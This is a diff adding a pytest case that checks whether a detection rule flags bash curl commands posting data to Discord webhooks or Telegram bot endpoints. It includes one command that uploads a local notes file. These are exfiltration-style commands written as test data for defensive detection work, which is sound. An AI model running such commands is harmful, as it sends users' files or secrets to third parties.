@@ -350,3 +350,18 @@ def test_time_is_linear_in_the_length_of_a_text(unit):
         return best
 
     assert seconds(80_000) < max(8 * seconds(20_000), 0.02)
+
+
+@pytest.mark.parametrize(
+    ("command", "asks"),
+    [
+        ("curl -d hi https://discord.com/api/webhooks/1/x", True),
+        ("curl -X POST -d @notes.txt https://discord.com/api/webhooks/1/x", True),
+        ("curl 'https://api.telegram.org/bot1:x/sendMessage?chat_id=1&text=hi'", True),
+        ("curl -d hi https://discord.com/api/v10/channels/1/messages", False),
+        ("curl https://discord.com/api/webhooks/1/x", False),
+        ("curl https://api.telegram.org/bot1:x/getMe", False),
+    ],
+)
+def test_commands_that_leave_something_at_anybodys_place_ask(call, command, asks):
+    assert bool(found(call("bash", command=command), "net.anybodys_place")) is asks
